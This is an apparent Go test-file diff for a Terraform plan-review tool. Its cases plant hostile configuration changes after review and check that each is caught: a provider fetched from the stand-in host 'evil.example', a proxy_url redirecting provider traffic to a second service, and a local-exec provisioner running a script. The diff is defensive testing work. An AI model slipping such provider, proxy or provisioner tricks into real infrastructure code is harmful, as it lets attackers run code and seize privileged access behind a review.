@@ -51,8 +51,18 @@ func (h *hiding) functionsOnly() {
 		h.t.Fatal(err)
 	}
 	h.reaching(program, "exec "+filepath.Join(folder, "terraform-provider-idm")+` "$@"`)
-	h.write("main.tf", strings.Replace(moduleProvider, "  }\n}", "    evil = { source = \"evil.example/identity-iac/idm\" }\n  }\n}", 1))
+	h.write("main.tf", evilProvider)
 }
+
+// evilProvider requires a provider of another host, too.
+const evilProvider = `
+terraform {
+  required_providers {
+    idm  = { source = "identity-iac/idm" }
+    evil = { source = "evil.example/identity-iac/idm" }
+  }
+}
+`
 
 // stateServer stores a state over HTTP.
 type stateServer struct {
@@ -202,6 +212,14 @@ func TestReview_finalTouched(t *testing.T) {
 		"a provider of functions": {arrange: (*hiding).functionsOnly,
 			after: "output \"id\" {\n  value = provider::evil::import_id(\"acme\", \"sales\")\n}\n" + attackUnit(""),
 			rule:  "other-provider", address: "evil.example/identity-iac/idm", there: crmAdmin, reached: true, anything: true},
+		"a provider of the state": {arrange: func(h *hiding) {
+			h.functionsOnly()
+			h.write("main.tf", "")
+		}, before: evilProvider + attackUnit("provider = evil"), after: moduleProvider + attackGrant("a", "crm-admin"),
+			rule: "other-provider", address: "evil.example/identity-iac/idm", gained: crmAdmin, there: crmAdmin, reached: true,
+			anything: true},
+		"a proxy": {after: "provider \"idm\" {\n  proxy_url = \"THERE\"\n}\n" + attackGrant("a", "crm-admin"), rule: "provider-address",
+			there: crmAdmin, reached: true, anything: true},
 		"a provisioner": {arrange: func(h *hiding) { h.reaching("reach.sh", "") },
 			after: attackUnit("provisioner \"local-exec\" {\n  command = \"./reach.sh\"\n}\n"), rule: "provisioner", address: "idm_unit.a",
 			there: crmAdmin, reached: true, anything: true},
@@ -268,9 +286,9 @@ func (of touching) run(h *hiding) {
 		h.must(0, "init", "-no-color")
 		h.apply(of.before)
 	}
-	h.write("tenant.tf", of.after)
+	h.write("tenant.tf", h.placed(of.after)[0])
 	h.must(0, "init", "-no-color", "-reconfigure")
-	h.saved(h.placed(of.plan)...)
+	h.saved(h.placed(of.plan...)...)
 	if of.claimed != "" {
 		h.dated(of.claimed)
 	}
@@ -281,7 +299,7 @@ func (of touching) run(h *hiding) {
 	here, there := h.sim.State(), h.second.State()
 	h.second.ClearRequests()
 	h.write("armed", "")
-	h.must(of.code, slices.Concat([]string{"apply", "-no-color"}, h.placed(of.apply), []string{"reviewed.tfplan"})...)
+	h.must(of.code, slices.Concat([]string{"apply", "-no-color"}, h.placed(of.apply...), []string{"reviewed.tfplan"})...)
 	if reached := len(h.second.Requests()) > 0; reached != of.reached {
 		h.t.Errorf("the apply reaches the second service %t, want %t", reached, of.reached)
 	}
@@ -301,11 +319,11 @@ func (of touching) run(h *hiding) {
 	}
 }
 
-// placed are arguments with the addresses of the two services.
-func (h *hiding) placed(arguments []string) []string {
+// placed are texts with the addresses of the two services.
+func (h *hiding) placed(texts ...string) []string {
 	var found []string
-	for _, argument := range arguments {
-		found = append(found, strings.NewReplacer("THERE", h.secondURL, "HERE", h.url).Replace(argument))
+	for _, text := range texts {
+		found = append(found, strings.NewReplacer("THERE", h.secondURL, "HERE", h.url).Replace(text))
 	}
 	return found
 }
